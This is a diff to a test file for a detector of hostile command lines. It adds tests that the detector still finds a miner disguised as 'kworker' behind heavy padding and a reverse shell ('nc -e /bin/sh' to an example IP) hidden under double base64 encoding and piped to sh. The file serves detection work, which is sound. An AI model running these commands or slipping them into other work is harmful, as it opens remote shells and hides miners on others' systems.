@@ -79,6 +79,23 @@ describe('hostile command lines', () => {
   }
 
   it('are read only up to a limit', () => {
-    assert.ok(actingText('x'.repeat(1_000_000)).length < 300_000);
+    assert.ok(actingText('x'.repeat(4_000_000)).length < 2_000_000);
+  });
+
+  it('hide nothing behind as much padding as an audit entry can hold', () => {
+    assert.notEqual(minerIn(`sh -c #${'a'.repeat(400 * 1024)}\n./kworker --donate-level 1`), undefined);
+  });
+
+  it('hide nothing in what is encoded twice', () => {
+    const encoded = Buffer.from(Buffer.from('nc -e /bin/sh 203.0.113.9 4444').toString('base64')).toString('base64');
+    assert.notEqual(reverseShellIn(`sh -c echo ${encoded} | base64 -d | base64 -d | sh`), undefined);
+  });
+
+  it('do not grow without end by what is encoded', () => {
+    const encoded = Array.from({ length: 12 }).reduce<string>(
+      (text) => Buffer.from(text).toString('base64'),
+      'id; '.repeat(2000),
+    );
+    assert.ok(actingText(`echo ${encoded}`).length < 5 * encoded.length);
   });
 });
